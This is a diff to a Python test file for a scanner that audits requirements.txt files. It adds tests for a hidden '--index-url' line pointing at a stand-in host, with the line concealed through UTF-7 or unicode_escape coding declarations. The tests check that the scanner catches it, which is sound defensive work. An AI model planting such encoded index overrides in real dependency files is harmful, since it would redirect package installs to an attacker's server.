@@ -1,11 +1,14 @@
 from __future__ import annotations
 
+import base64
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from support.cases import check_each
 from support.scans import scan_text
 
+import modelaudit
 from modelaudit.model.limits import MIB
 from modelaudit.model.outline import Outline
 from modelaudit.model.structure import UnreadReason
@@ -114,6 +117,36 @@ def test_requirements_file_over_the_bound_on_lines_gives_a_mention_before_it_and
 def test_requirements_files_of_any_bytes_never_crash_the_reader(read_bytes, data):
     # Any error that the reader does not report as damage or as a limit fails the test.
     read_bytes(b"numpy\n" + data, "requirements.txt")
+
+
+def _write_in_utf_7(text: str) -> str:
+    return "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-"
+
+
+_HOSTILE_LINE = "--index-url http://e.invalid/s"
+
+
+@check_each(
+    "text, code, rule",
+    [
+        (f"# -*- coding: utf-7 -*-\nnumpy\n{_write_in_utf_7(_HOSTILE_LINE)}\n", 1, "requirements/unprotected-source"),
+        (f"# coding: unicode_escape\n\\x2d{_HOSTILE_LINE[1:]}\n", 1, "requirements/unprotected-source"),
+        ("numpy\n# coding=utf-7 coding=utf-8\n+AC0ALQBwAHIAZQ-\n", 0, None),
+        ("# coding: rot13\nnumpy\n", 3, "coverage/program-not-judged"),
+        ("# coding: no-such-codec\nnumpy\n", 3, "coverage/program-not-judged"),
+        ("# coding: utf-7\n+AC\udcff\n", 3, "coverage/damaged"),
+        ("# coding: latin-1\nnumpy\n", 0, None),
+        ("# -*- coding: gbk -*-\nnumpy\n", 0, None),
+        (f"\ufeff# coding: utf-7\nnumpy\n{_write_in_utf_7(_HOSTILE_LINE)}\n", 0, None),
+        (f"a\nb\n# coding: utf-7\n{_write_in_utf_7(_HOSTILE_LINE)}\n", 0, None),
+    ],
+)
+def test_requirements_file_is_read_in_the_codec_of_its_coding_line_as_pip_reads_it(tmp_path, text, code, rule):
+    (tmp_path / "requirements.txt").write_bytes(text.encode("utf-8", "surrogateescape"))
+    report = modelaudit.scan(tmp_path, second_opinion=False)
+    assert report.exit_code == code
+    rules = {finding.rule for finding in report.findings} - {"license/undeclared"}
+    assert rules == ({rule} if rule else set())
 
 
 def test_address_behind_a_very_long_run_of_spaces_is_reported():
